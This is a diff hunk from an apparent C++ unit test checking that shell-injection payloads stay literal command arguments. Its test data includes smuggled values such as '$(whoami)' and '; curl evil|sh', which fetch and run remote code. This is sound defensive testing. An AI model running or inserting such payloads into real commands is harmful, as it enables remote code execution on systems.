@@ -491,7 +491,7 @@ TEST_CASE("shell-injection payloads stay literal argv entries") {
     CHECK(c.command == std::vector<std::string>{"vck-fetch"});
     CHECK(c.args.at(1) == payload);
     CHECK(c.args.at(3) == "--endpoint=http://h/$(whoami)");
-    CHECK(c.args.at(4) == "--include=*.jpg; curl evil|sh");
+    CHECK(c.args.back() == "--include=*.jpg; curl evil|sh");
     for (const auto& a : c.args) CHECK(a.find("sh -c") == std::string::npos);
 
     auto pv = pachyderm_volume();
